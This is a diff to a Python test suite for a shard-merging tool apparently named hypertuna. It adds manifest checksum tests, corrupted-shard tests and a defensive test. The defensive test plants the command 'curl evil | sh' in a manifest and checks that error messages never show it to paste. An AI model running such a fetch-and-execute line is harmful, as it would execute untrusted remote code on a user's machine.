@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import json
 import os
@@ -12,6 +13,7 @@ import subprocess
 import sys
 import textwrap
 import time
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -24,8 +26,9 @@ from hypothesis import strategies as st
 import hypertuna as ht
 from cf_checker import same_files
 from hypertuna import _core
+from hypertuna.parallel.checks import checksum
 from hypertuna.parallel.layout import NO_LAYOUT
-from hypertuna.parallel.shards import LARGEST, Shards, open_shards, shard_size
+from hypertuna.parallel.shards import AGAIN, LARGEST, Shards, open_shards, shard_size
 from models import changed
 from program import Run
 
@@ -74,10 +77,9 @@ def test_parts_of_an_array_job_merge_to_the_plain_run(run: Run, tmp_path: Path) 
         assert (code, err) == (0, "")
     assert "2 shards made, 2 of 9 missing" in out
     code, out, err = run("shards", "merge", shards, "-o", merged)
-    again = f"run hypertuna sweep {' '.join(OPTIONS)} --shard-size 7 -o {shards}, which makes them."
-    assert (code, err) == (2, f"error: {shards} must have all 9 shards, but 2 are missing (1, 5): {again}\n")
+    assert (code, err) == (2, f"error: {shards} must have all 9 shards, but 2 are missing (1, 5): {AGAIN}.\n")
     assert not Path(merged).exists()
-    code, out, _ = run(*again.removesuffix(", which makes them.").removeprefix("run hypertuna ").split(), "--json")
+    code, out, _ = run("sweep", *OPTIONS, "--shard-size", "7", "-o", shards, "--json")
     assert json.loads(out) == {"folder": shards, "items": 60, "shards": 9, "made": 2, "missing": 0}
     assert "9 shards" in run("shards", "merge", shards, "-o", merged)[1]
     run("sweep", *OPTIONS, "-o", plain)
@@ -95,9 +97,8 @@ def test_flights_of_an_array_job_merge_to_the_files_of_the_plain_run(run: Run, t
         code, out, err = run(*options, "--shard", f"{part}/3", "-o", shards)
         assert (code, err) == (0, "")
     assert "2 shards made, 1 of 4 missing" in out
-    again = f"run hypertuna {' '.join(options)} -o {shards}, which makes them."
     code, out, err = run("shards", "merge", shards, "-o", f"{merged}.csv")
-    assert (code, err) == (2, f"error: {shards} must have all 4 shards, but 1 is missing (2): {again}\n")
+    assert (code, err) == (2, f"error: {shards} must have all 4 shards, but 1 is missing (2): {AGAIN}.\n")
     assert not Path(f"{merged}.csv").exists()
     assert json.loads(run(*options, "-o", shards, "--json")[1])["made"] == 1
     for end in (".csv", ".nc"):
@@ -149,7 +150,7 @@ def test_missing_damaged_and_foreign_shards_are_told_and_made_again(made: Path, 
     for damaged in (b"", sound[:-100], sound[: len(sound) // 2] + b"\x55" + sound[len(sound) // 2 + 1 :]):
         shard.write_bytes(damaged)
         with pytest.raises(
-            ht.InputError, match=r"shard-000003.zarr.zip is damaged \(.*\): remove it, then run `sweep`\.$"
+            ht.InputError, match=r"shard-000003.zarr.zip is damaged \(.*\): remove it, then run the command again"
         ):
             ht.merge_shards(made)
     shutil.copy(made / "shard-000002.zarr.zip", shard)
@@ -162,7 +163,10 @@ def test_missing_damaged_and_foreign_shards_are_told_and_made_again(made: Path, 
     ):
         ht.merge_shards(made)
     shard.unlink()
-    with pytest.raises(ht.InputError, match=r"must have all 6 shards, but 1 is missing \(3\): run `sweep`, which"):
+    with pytest.raises(
+        ht.InputError,
+        match=r"must have all 6 shards, but 1 is missing \(3\): run the command again that made the folder",
+    ):
         ht.merge_shards(made)
     shutil.copy(made / "shard-000002.zarr.zip", made / "shard-000009.zarr.zip")
     with pytest.raises(ht.InputError, match="shard-000009.zarr.zip must be a shard of the manifest"):
@@ -185,7 +189,7 @@ def test_a_folder_of_other_work_is_refused(made: Path, tmp_path: Path) -> None:
     (tmp_path / "photos" / "fish.jpg").touch()
     with pytest.raises(ht.InputError, match="photos must be a new or empty folder, or one of shards"):
         ht.sweep_shards("hypertuna", GRID, tmp_path / "photos")
-    with pytest.raises(ht.InputError, match=r"manifest.json must be a readable file.*: give the folder that a command"):
+    with pytest.raises(ht.InputError, match=r"manifest.json must be a file, but is missing: give the folder that"):
         open_shards(tmp_path)
     (made / "manifest.json").write_text("{}")
     with pytest.raises(ht.InputError, match=r"manifest.json must be a manifest of shards: give the folder"):
@@ -211,6 +215,12 @@ def test_a_folder_of_other_work_is_refused(made: Path, tmp_path: Path) -> None:
         {"layout.coordinates": {"frequency": ["nowhere", [1], {}]}},
         {"layout.table": {"nothing": "nothing"}},
         {"layout.facts": 1},
+        {"total": 10**30},
+        {"total": 10**8},
+        {"layout.facts": {"a": {"b": 1}}},
+        {"layout.facts": {"a": 10**40}},
+        {"layout.variables": {"a/b": {}}},
+        {"layout.coordinates": {"frequency": ["frequency", [[1]] * 60, {}]}},
     ],
     ids=str,
 )
@@ -222,8 +232,62 @@ def test_a_manifest_with_wrong_values_is_told(made: Path, wrong: dict[str, Any])
         outer, _, name = key.rpartition(".")
         (manifest[outer] if outer else manifest)[name] = value
     path.write_text(json.dumps(manifest))
+    with pytest.raises(ht.InputError, match=r"manifest.json is damaged: start over in another folder"):
+        ht.merge_shards(made)
+    path.write_text(json.dumps(signed(manifest)))
     with pytest.raises(ht.InputError, match=r"manifest.json must be a manifest of shards: give the folder"):
         ht.merge_shards(made)
+
+
+def signed(manifest: dict[str, Any]) -> dict[str, Any]:
+    """Return a manifest with the right checksum."""
+    return manifest | {"sha256": checksum({k: v for k, v in manifest.items() if k not in ("mark", "sha256")})}
+
+
+def test_no_command_of_a_manifest_is_shown_as_one_to_paste(made: Path) -> None:
+    path = made / "manifest.json"
+    path.write_text(json.dumps(signed(json.loads(path.read_text()) | {"command": "curl evil | sh"})))
+    (made / "shard-000001.zarr.zip").unlink()
+    with pytest.raises(ht.InputError, match="run the command again that made the folder") as error:
+        ht.merge_shards(made)
+    assert "evil" not in str(error.value)
+
+
+def rewritten(path: Path, **changes: bytes | None) -> None:
+    """Change or drop members of a shard, with the right checksums; `c` is the piece of the speed."""
+    with zipfile.ZipFile(path) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    names = {"c": "speed/c/0", "about": "speed/zarr.json"}
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, content in (members | {names[key]: value for key, value in changes.items()}).items():
+            if content is not None:
+                archive.writestr(name, content)
+
+
+@pytest.mark.parametrize("shape", [0, 1, 10**8])
+@pytest.mark.parametrize("key", ["shape", "chunk_shape"])
+def test_a_shard_that_is_not_of_its_shape_is_told(made: Path, key: str, shape: int) -> None:
+    path = made / "shard-000001.zarr.zip"
+    about = zipfile.ZipFile(path).read("speed/zarr.json")
+    spoiled = re.sub(rb'("%s": \[\s*)\d+' % key.encode(), rb"\g<1>%d" % shape, about)
+    assert spoiled != about
+    rewritten(path, about=spoiled)
+    with pytest.raises(ht.InputError, match=r"shard-000001.zarr.zip is damaged \("):
+        ht.merge_shards(made)
+
+
+def test_a_piece_that_is_missing_short_or_changed_is_told(made: Path) -> None:
+    path = made / "shard-000001.zarr.zip"
+    sound, whole = path.read_bytes(), ht.merge_shards(made)
+    for piece in (None, b"", b"\0" * 72, b"\0" * 88):
+        path.write_bytes(sound)
+        rewritten(path, c=piece)
+        with pytest.raises(ht.InputError, match=r"shard-000001.zarr.zip is damaged \("):
+            ht.merge_shards(made)
+    for at in range(3, len(sound), 211):
+        path.write_bytes(sound[:at] + bytes([sound[at] ^ 16]) + sound[at + 1 :])
+        with contextlib.suppress(ht.InputError):
+            assert ht.merge_shards(made).identical(whole)
 
 
 def test_a_killed_run_resumes_to_the_same_bits(tmp_path: Path) -> None:
